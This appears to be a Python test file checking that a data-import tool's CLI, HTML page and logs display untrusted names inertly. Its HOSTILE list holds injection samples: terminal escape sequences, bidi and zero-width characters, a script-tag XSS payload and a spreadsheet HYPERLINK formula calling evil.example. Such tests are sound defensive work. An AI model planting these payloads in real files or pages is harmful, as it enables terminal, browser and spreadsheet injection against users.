"""Law 10: words that somebody else wrote are shown by one way only; on terminal, page and log they act on nothing."""

from __future__ import annotations

import contextlib
import io
import json
import sqlite3
from typing import TYPE_CHECKING

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from journeying import HEADER, count_examples, visits

from passerelle.engine.log import configure, log, trace
from passerelle.faces.cli.app import run
from passerelle.vocabulary.formatting import is_seen
from passerelle.vocabulary.reasons import REASONS, explain

if TYPE_CHECKING:
    from pathlib import Path

MARK = "Quatrebarbes"
_PAGE = ["status", "--format", "html"]
HOSTILE = [
    f"\x1b]0;{MARK}\x07\x1b[31m{MARK}\x1b[0m",
    f"{MARK}\x9b31m",
    f"\u202e{MARK}\u2066\u2069",
    f"\u200b{MARK}\ufeff\u00ad",
    f"{MARK}\u2028{MARK}\u2029\x85",
    f"<script>alert('{MARK}')</script>",
    f"=HYPERLINK('http://evil.example/?{MARK}')",
    f"[red]{MARK}[/red] {{name}} %s",
    MARK * 40,
]
NAMES = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.sampled_from("aé\x1b\x07[]m;\x9b\u202e\u2066\u200d\ufeff\u2028\x85<>&{}%'= "), min_size=1, max_size=120),
)


def find_unseen(text: str) -> set[str]:
    """Return what a terminal would obey or a reader not see."""
    return {char for char in text if not is_seen(char) and char not in "\n\t"}


def call(*words: str) -> str:
    """Run one command in this process; return all that it said."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        run([*words])
    return out.getvalue()


def quote(name: str) -> str:
    return '"' + name.replace('"', "") + '"'


@settings(max_examples=count_examples(15), deadline=None)
@given(name=NAMES, form=st.sampled_from(["text", "json", "html"]))
def test_a_column_of_any_name_is_shown_without_acting(tmp_path_factory, name, form):
    file = tmp_path_factory.mktemp("names") / "export.csv"
    head, *rows = visits(2).strip().splitlines()
    file.write_text("\n".join([f"{head};{quote(name)}", *(f'{row};"x"' for row in rows)]), "utf-8")
    said = call("check", str(file), "--connector", "compani-interventions", "--format", form)
    assert find_unseen(said) == set()
    assert "<script>alert" not in said or form != "html"
    assert MARK * 10 not in said or form == "json", "a name is shortened where people read it"
    if form == "json":
        json.loads(said)


@settings(max_examples=count_examples(8), deadline=None)
@given(name=NAMES)
def test_members_of_json_and_of_xml_are_shown_without_acting(tmp_path_factory, name):
    folder = tmp_path_factory.mktemp("members")
    (folder / "export.json").write_text(json.dumps([{name: 1, "b": name}]), "utf-8")
    safe = "".join(char if char.isprintable() else "\u202e" for char in name)
    attribute = safe.replace("&", "").replace("<", "").replace('"', "")
    (folder / "export.xml").write_text(f'<a><b c="{attribute}"/><b c="{attribute}"/></a>', "utf-8")
    for file in ("export.json", "export.xml"):
        assert find_unseen(call("plugins", "infer", str(folder / file))) == set()
        assert find_unseen(call("plugins", "infer", str(folder / file), "--format", "json")) == set()


def write_workbook(path: Path, sheet: str, column: str) -> None:
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet(sheet)
        page.write_row(0, 0, [column, "b"])
        page.write_row(1, 0, ["1", "2"])


@pytest.mark.parametrize("name", [f"{MARK}\u202e", f"{MARK}\x9b31m", f"{MARK}\u200b\u2028"])
def test_sheets_of_any_name_are_shown_without_acting(tmp_path, name):
    write_workbook(tmp_path / "export.xlsx", name[:31], name)
    said = call("check", str(tmp_path / "export.xlsx"), "--connector", "gaia-social-demandes-aide")
    assert find_unseen(said + call("plugins", "infer", str(tmp_path / "export.xlsx"))) == set()


@pytest.mark.parametrize("name", ["\x1b[31mexport\x07.csv", "\u202eexport.csv", "a\nb\x9b.csv"])
def test_names_of_files_are_shown_without_acting(tmp_path, name):
    assert find_unseen(call("check", str(tmp_path / name), "--connector", "compani-interventions")) == set()
    (tmp_path / name).write_text(visits(1), "utf-8")
    page = call("check", str(tmp_path / name), "--connector", "compani-interventions", "--format", "html")
    assert find_unseen(page) == set()
    assert "export" not in page, "the name of a file may be that of a person, and the page goes to the supplier"


@given(name=NAMES)
def test_what_is_typed_is_shown_without_acting(name):
    assert find_unseen(call(f"--{name}")) == set()
    assert find_unseen(call("check", "--format", name)) == set()


@given(name=NAMES)
def test_details_that_others_filled_make_one_plain_sentence(name):
    for code in ("incident.plugin.failed", "deliver.record.refused", "settings.file.missing"):
        details = dict.fromkeys(("plugin", "version", "kind", "place", "file", "status", "answer"), name * 30)
        for text in explain(code, details):
            assert find_unseen(text) == set()
            assert len(text) < 20_000
    assert "incident.plugin.failed" in REASONS


@given(name=NAMES)
def test_an_exception_of_a_plugin_says_nothing_raw_in_the_log(name):
    kind = type(name.replace("\0", "") or "X", (Exception,), {})
    for form in ("json", "text"):
        stream = io.StringIO()
        configure(form=form, stream=stream)
        log("process_failed", error=kind(MARK))
        configure()
        assert find_unseen(stream.getvalue()) == set()
        assert "alert" not in trace(kind(MARK)).get("message", "")


def test_a_run_keeps_no_foreign_word_in_clear(workshop):
    head, *rows = visits(3).strip().splitlines()
    # a name with a control character of the second kind is damaged: such a file is parked, and says nothing at all
    odd = [quote(name) for name in HOSTILE if not set(name) & set("\x9b\x85")]
    broken = rows[0].replace("2024/05/01 07:00:00", "pas une date", 1)
    (workshop.folder / "entrants" / f"{MARK}.csv").write_text(
        "\n".join([";".join([head, *odd]), *(row + ";x" * len(odd) for row in [*rows[1:], broken])]), "utf-8"
    )
    workshop.write(
        '[passerelle]\n[flow.visites]\nconnector = "compani-interventions"\npurpose = "effectivity"\n'
        'source = { kind = "folder", path = "entrants", quiet_seconds = 0.0 }\n'
        'destination = { kind = "folder", path = "sortants" }\n'
    )
    said = [workshop.command(*words) for words in (["run"], ["status"], ["quarantine", "list"], ["doctor"], _PAGE)]
    assert HEADER.split(";")[0] in head
    assert {char for done in said for char in find_unseen(done.stdout + done.stderr)} == set()
    assert "rejected 1" in said[0].stdout
    assert "<script>" not in said[-1].stdout, "what is written like markup is text on a page"
    state = workshop.folder / "etat"
    with contextlib.closing(sqlite3.connect(state / "journal.sqlite3")) as connection:
        told = str(connection.execute("SELECT * FROM column_met").fetchall())
        told += str(connection.execute("SELECT * FROM batch_reason").fetchall())
    assert "siv1:" in told
    for path in state.rglob("*"):
        if path.is_file():
            assert MARK.encode() not in path.read_bytes(), path.name
